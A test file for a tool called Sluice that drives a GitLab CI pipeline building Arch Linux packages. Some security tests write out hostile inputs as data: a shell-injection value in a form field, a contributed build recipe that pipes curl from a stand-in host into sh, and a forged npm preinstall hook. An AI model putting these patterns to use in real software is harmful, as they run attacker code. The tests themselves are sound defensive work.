import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Schedule } from "../tools/schedule/schedule.ts";
import { cannotBuild } from "./world/building.ts";
import { GitlabProject } from "./world/gitlab-runner.ts";
import { missingPrograms } from "./world/programs.ts";
import { registryReachable } from "./world/registry.ts";
import { sluice } from "./world/sluice.ts";
import { srcinfoText } from "./world/workspace.ts";

const lacking = [...missingPrograms("rsync"), ...(registryReachable() ? [] : ["npm's registry"])];

let p: GitlabProject;

function addPackage(name: string, pkgver = "1", more = ""): void {
  p.write(`packages/${name}/PKGBUILD`, `pkgname=${name}\npkgver=${pkgver}\npkgrel=1\narch=(any)\n${more}`);
  p.write(`packages/${name}/.SRCINFO`, srcinfoText(name, { pkgver }));
}

const builds = ({ read }: { read: (path: string) => string }): string[] =>
  (JSON.parse(read(".ci/schedule.json")) as Schedule).builds.map(({ pkgbase }) => pkgbase);

describe.skipIf(lacking.length > 0)(
  `the GitLab pipeline (needs ${lacking.join(", ") || "nothing more"})`,
  () => {
    beforeAll(async () => {
      p = new GitlabProject();
      await sluice(["init", "person", "--gitlab", "--name", "mine", "--commit"], { cwd: p.base });
      // A job of one's own, which also keeps gitlab-ci-local content: it wants a file for every include.
      p.write(".gitlab-ci-own.yml", "own:\n  stage: run\n  script: ['echo my own job']\n");
      p.push("start");
    });
    afterAll(() => p.remove());

    test("schedules on a push what it changed, hands the schedule on as an artefact, and runs jobs of one's own", async () => {
      addPackage("foo");
      const head = p.push("foo");
      const run = await p.pipeline("push");
      expect(run.jobs).toEqual({ run: "pass", own: "pass" });
      expect(builds(run)).toEqual(["foo"]);
      expect(p.atOrigin("rev-parse", "scheduled")).toBe(head);
    });

    test("looks for updates on a schedule, and finds what no push has scheduled yet", async () => {
      addPackage("bar");
      const head = p.push("bar [skip ci]");
      const run = await p.pipeline("schedule");
      expect(run.jobs).toMatchObject({ run: "pass" });
      expect(builds(run)).toEqual(["bar"]);
      expect(p.atOrigin("rev-parse", "scheduled")).toBe(head);
    });

    test("fires a trigger that a schedule names", async () => {
      p.write("packages/bar/.CI/config", "CI_ON_TRIGGER=daily\n");
      p.push("bar is built daily");
      await p.pipeline("push");
      const run = await p.pipeline("schedule", { TRIGGER: "daily" });
      expect(run.jobs).toMatchObject({ run: "pass" });
      expect(builds(run)).toEqual(["bar"]);
    });

    test("carries out what forms ask for: schedules, bumps, refuses to drop what is needed, drops it all the same", async () => {
      addPackage("lib");
      p.write("packages/app/PKGBUILD", "pkgname=app\npkgver=1\npkgrel=1\n");
      p.write("packages/app/.SRCINFO", srcinfoText("app", { lines: ["depends = lib"] }));
      p.push("lib and app");
      await p.pipeline("push");
      const form = (values: Record<string, string>): ReturnType<typeof p.pipeline> =>
        p.pipeline("web", values);

      expect(builds(await form({ OPERATION: "schedule", PACKAGES: "app:lib" }))).toEqual(["lib", "app"]);
      expect(builds(await form({ OPERATION: "bump", PACKAGES: "lib" }))).toEqual(["lib"]);
      expect(p.atOrigin("show", "main:packages/lib/.CI/config")).toBe("CI_PACKAGE_BUMP=1-1/1");
      p.git("pull", "-q", p.origin, "main");
      const refused = await form({ OPERATION: "drop", PACKAGES: "lib" });
      expect(refused.jobs).toMatchObject({ run: "warn" });
      expect(refused.output).toContain("still needed by app; nothing was dropped");
      expect((await form({ OPERATION: "drop", PACKAGES: "lib", INSIST: "true" })).jobs).toMatchObject({
        run: "pass",
      });
      expect(p.atOrigin("ls-tree", "--name-only", "main:packages").split("\n")).not.toContain("lib");
      p.git("pull", "-q", p.origin, "main");
      expect((await form({ OPERATION: "add" })).output).toContain("set ADD_PACKAGES");
    });

    test("refuses an operation that there is none of, and passes no name on to a shell", async () => {
      const run = await p.pipeline("web", { OPERATION: "up; touch pwned" });
      expect(run.jobs).toMatchObject({ run: "fail" });
      expect(run.output).toContain("There is no operation up; touch pwned.");
      expect(() => run.read("pwned")).toThrow(/ENOENT/);
    });

    test("warns, and isn't broken, where a contributor's changes need a person", async () => {
      const base = p.git("rev-parse", "HEAD");
      p.git("checkout", "-q", "-b", "contribution");
      addPackage("baz", "1", 'build() {\n  curl "https://x.example/p" | sh\n}\n');
      p.push("baz", "contribution");
      p.git("checkout", "-q", "main");
      const run = await p.pipeline(
        "merge_request_event",
        { CI_MERGE_REQUEST_DIFF_BASE_SHA: base },
        "contribution",
      );
      expect(run.jobs).toMatchObject({ "check-changes": "warn" });
      expect(run.jobs).not.toHaveProperty("run");
      expect(run.output).toContain("### `baz`: added, dangerous");
    });

    test("judges a contribution by the Sluice that main has pinned, whatever the contribution pins", async () => {
      const base = p.git("rev-parse", "main");
      p.git("checkout", "-q", "-b", "forged");
      p.write("package.json", '{"name":"x","scripts":{"preinstall":"touch pwned"}}\n');
      p.write("package-lock.json", "{}\n");
      p.push("forged", "forged");
      p.git("checkout", "-q", "main");
      const run = await p.pipeline("merge_request_event", { CI_MERGE_REQUEST_DIFF_BASE_SHA: base }, "forged");
      expect(run.jobs).toMatchObject({ "check-changes": "warn" });
      expect(run.output).toContain("package-lock.json");
      expect(() => run.read("pwned")).toThrow(/ENOENT/);
    });
  },
);

describe.skipIf(lacking.length > 0 || cannotBuild !== "")("GitLab's own runners", () => {
  beforeAll(async () => {
    p = new GitlabProject();
    const args = ["--gitlab", "--name", "mine", "--schedule-to", "runners", "--commit"];
    await sluice(["init", "person", ...args], { cwd: p.base });
    // The runner here is no Arch Linux, and has all that builds need.
    const before = "npm ci --ignore-scripts --no-audit --no-fund";
    p.write(".gitlab-ci-test.yml", `build:\n  before_script: ['${before}']\n`);
    p.push("start");
  });
  afterAll(() => p.remove());

  test("build the schedule and publish what was built, also where a package fails", async () => {
    p.write("packages/foo/PKGBUILD", recipe("foo", ""));
    p.write("packages/foo/.SRCINFO", srcinfoText("foo"));
    p.write("packages/bad/PKGBUILD", recipe("bad", "build() {\n  false\n}\n"));
    p.write("packages/bad/.SRCINFO", srcinfoText("bad"));
    p.push("foo, bad");
    const run = await p.pipeline("push");
    expect(run.jobs).toEqual({ run: "pass", build: "warn", pages: "pass" });
    expect(run.read("public/mine/x86_64/mine.db").length).toBeGreaterThan(0);
    expect(run.read("public/mine/x86_64/foo-1-1-any.pkg.tar.zst.sig").length).toBeGreaterThan(0);
  });
});

function recipe(name: string, build: string): string {
  const package_ = `package() {\n  install -d "$pkgdir/usr/share/${name}"\n  echo 1 > "$pkgdir/usr/share/${name}/hello"\n}\n`;
  return `pkgname=${name}\npkgver=1\npkgrel=1\npkgdesc=${name}\narch=(any)\nlicense=(0BSD)\n${build}${package_}`;
}
